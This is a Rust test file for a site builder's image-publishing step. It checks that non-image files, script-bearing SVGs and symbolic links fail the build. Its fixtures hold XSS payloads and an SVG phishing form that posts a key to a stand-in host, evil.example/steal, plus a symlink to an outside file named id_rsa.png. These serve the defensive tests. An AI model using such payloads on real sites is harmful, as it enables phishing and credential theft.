//! What `press build` publishes from `content/images`: image files only, checked by their bytes,
//! never a page, a script, an SVG that runs script, or a symbolic link (the old build copied
//! every file of the folder as it was, following links).

use std::fs;
use std::path::Path;

use sb_press::content::images::samples;
use sb_press::BuildError;

mod common;
use common::{build, edited_fixture};

/// Builds the minimal fixture with `files` in `content/images`; `link` adds symbolic links
/// (name, target). Returns the build's errors (empty when it succeeded) and the output folder.
fn build_with_images(
    files: &[(&str, &[u8])],
    links: &[(&str, &Path)],
) -> (tempfile::TempDir, Vec<String>) {
    let (dir, content) = edited_fixture(&[]);
    let images = content.join("images");
    for (name, bytes) in files {
        fs::create_dir_all(images.join(name).parent().unwrap()).unwrap();
        fs::write(images.join(name), bytes).unwrap();
    }
    fs::create_dir_all(&images).unwrap();
    for (name, target) in links {
        std::os::unix::fs::symlink(target, images.join(name)).unwrap();
    }
    let errors = match build(&content, &dir.path().join("out")) {
        Ok(_) => Vec::new(),
        Err(BuildError::Content(errors)) => errors.iter().map(ToString::to_string).collect(),
        Err(other) => panic!("{other}"),
    };
    (dir, errors)
}

#[test]
fn only_images_are_published_byte_for_byte() {
    let chart = fs::read(common::sample_content().join("images/roofline.svg")).unwrap();
    let files: [(&str, &[u8]); 6] = [
        ("a.png", samples::PNG),
        ("b.jpg", samples::JPEG),
        ("c.gif", samples::GIF),
        ("charts/d.webp", samples::WEBP),
        ("charts/roofline.svg", &chart),
        (".DS_Store", b"\0\0\0\x01Bud1"),
    ];
    let (dir, errors) = build_with_images(&files, &[]);
    assert_eq!(errors, Vec::<String>::new());
    let out = dir.path().join("out/images");
    for (name, bytes) in &files[..5] {
        assert_eq!(&fs::read(out.join(name)).unwrap(), bytes, "{name}");
    }
    assert!(!out.join(".DS_Store").exists(), "hidden files are skipped");
}

/// Each kind of file that is not a safe image fails the build, naming the file, and nothing is
/// written.
#[test]
fn anything_else_is_a_build_error_naming_the_file() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("id_rsa.png");
    fs::write(&secret, samples::PNG).unwrap();
    let cases: [(&str, &[u8], &str); 7] = [
        (
            "page.html",
            b"<html><script>alert(1)</script></html>",
            "not an image",
        ),
        ("app.js", b"fetch('/unlock')", "not an image"),
        (
            "chart.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "`<script>`",
        ),
        (
            "nested/hover.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect onmouseover=\"alert(1)\"/></svg>",
            "event handler",
        ),
        (
            "unlock.svg",
            b"<svg xmlns=\"http://www.w3.org/1999/xhtml\" width=\"10\" height=\"10\"><head>\
              <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/></head>\
              <form action=\"https://evil.example/steal\" method=\"post\"><input name=\"key\"/>\
              <button>Unlock</button></form></svg>",
            "unlock.svg:1: SVG with a `<svg>` element outside the SVG namespace",
        ),
        ("fake.html", samples::PNG, "not named .png"),
        ("fake.png", b"<p>hi</p>", "not an image"),
    ];
    for (name, bytes, reason) in cases {
        let (dir, errors) = build_with_images(&[("ok.png", samples::PNG), (name, bytes)], &[]);
        assert_eq!(errors.len(), 1, "{name}: {errors:?}");
        assert!(
            errors[0].contains(&format!("images/{name}:")) && errors[0].contains(reason),
            "{name}: {errors:?}"
        );
        assert!(!dir.path().join("out").exists(), "{name}: nothing written");
    }
    let links: [(&str, &Path); 3] = [
        ("outside.png", &secret),
        ("inside.png", Path::new("ok.png")),
        ("folder", outside.path()),
    ];
    for (name, target) in links {
        let (dir, errors) = build_with_images(&[("ok.png", samples::PNG)], &[(name, target)]);
        assert_eq!(errors.len(), 1, "{name}: {errors:?}");
        assert!(
            errors[0].contains(&format!("images/{name}:")) && errors[0].contains("symbolic link"),
            "{name}: {errors:?}"
        );
        assert!(!dir.path().join("out").exists());
    }
}

/// An article that points at a linked image fails on the link too, before reading through it.
#[test]
fn an_image_reached_through_a_link_is_refused_where_it_is_used() {
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("x.png"), samples::PNG).unwrap();
    let (dir, content) = edited_fixture(&[(
        "articles/older-article.md",
        "Body.",
        "Body.\n\n![chart](images/linked/x.png)",
    )]);
    fs::create_dir_all(content.join("images")).unwrap();
    std::os::unix::fs::symlink(outside.path(), content.join("images/linked")).unwrap();
    let err = build(&content, &dir.path().join("out"))
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("older-article.md:") && err.contains("images/linked is a symbolic link"),
        "{err}"
    );
}
